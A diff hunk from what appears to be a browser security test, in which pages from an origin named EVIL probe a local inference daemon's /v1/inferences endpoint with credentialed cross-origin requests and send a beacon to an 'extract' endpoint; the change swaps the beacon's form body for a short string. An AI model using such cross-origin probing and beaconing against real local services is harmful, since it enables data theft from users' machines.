@@ -109,7 +109,7 @@ for (const [origin, address] of [[EVIL, daemon.address], [OTHER_PORT, daemon.add
           element.onerror = () => resolve("");
           document.body.append(element);
         });
-        navigator.sendBeacon(extract, form);
+        navigator.sendBeacon(extract, "small, as a beacon must be");
         return Promise.all([
           ask(`${address}/v1/inferences`),
           ask(`${address}/v1/inferences`, { mode: "no-cors", credentials: "include" }),
